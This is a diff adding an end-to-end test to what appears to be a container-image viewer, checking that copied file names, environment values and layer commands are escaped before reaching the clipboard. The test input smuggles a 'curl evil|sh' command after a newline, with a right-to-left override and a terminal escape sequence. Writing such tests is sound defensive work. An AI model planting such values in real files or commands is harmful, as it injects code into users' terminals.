@@ -1,4 +1,4 @@
-import { file, tar } from '../../support/tar-builder.ts';
+import { file, pax, tar } from '../../support/tar-builder.ts';
 import { dockerArchive, ociLayout } from '../support/images.ts';
 import { expect, type LayerscopeWindow, test } from '../support/window.ts';
 
@@ -189,4 +189,36 @@ test('in a comparison’s details, neither a tag nor a version is broken', { tag
   // The part with the tag, or else the tag, has its own line.
   expect((await linesOf(0)).slice(-2).join(' ')).toMatch(/^(platform\/team\/ base-files:12\.4-deb12u1|.*base-files: 12\.4-deb12u1)$/);
   expect(await linesOf(1)).toContain('base-files:');
+});
+
+test('what is copied from an image can’t end a command in a terminal, or look like something else there', async ({ win }) => {
+  const name = 'a\ncurl evil|sh\n\u202E\u001B[2J';
+  const layer = { createdBy: 'RUN a \u001B[2J\nb', tar: tar(pax({ path: `etc/${name}` }), file('etc/short', 'x')) };
+  await win.drop(await win.write('odd.tar', dockerArchive([layer], { name: 'acme/odd:1', config: { Env: [`A=${name}`] } })));
+  const { page } = win;
+  // What the page hands to the clipboard; reading the clipboard itself needs a permission, and Electron has none.
+  await page.evaluate(() => {
+    const copied: string[] = [];
+    Object.assign(window, { copied });
+    Object.defineProperty(navigator, 'clipboard', { value: { writeText: async (text: string) => void copied.push(text) } });
+  });
+  const last = () => page.evaluate(() => (window as unknown as { copied: string[] }).copied.at(-1));
+  const escaped = 'a\\x0Acurl evil|sh\\x0A\\u202E\\x1B[2J';
+  const details = page.getByRole('region', { name: 'Details' });
+  await details.getByRole('button', { name: /^Copy Env/ }).click();
+  await expect.poll(last).toBe(`A=${escaped}`);
+  const row = page.getByRole('row', { name: /curl evil/ });
+  await row.click();
+  await page.keyboard.press('c');
+  await expect.poll(last).toBe(`etc/${escaped}`);
+  await row.click({ button: 'right' });
+  await page.getByRole('menuitem', { name: 'Copy name' }).click();
+  await expect.poll(last).toBe(escaped);
+  await row.click({ button: 'right' });
+  await page.getByRole('menuitem', { name: 'Copy as JSON' }).click();
+  await expect.poll(async () => JSON.parse((await last()) ?? 'null')?.path).toBe(`etc/${escaped}`);
+  for (const unsafe of ['\u202E', '\u001B']) expect(await last()).not.toContain(unsafe);
+  await page.getByRole('button', { name: /^Layer 0 / }).click({ button: 'right' });
+  await page.getByRole('menuitem', { name: 'Copy command' }).click();
+  await expect.poll(last).toBe('RUN a \\x1B[2J\nb');
 });
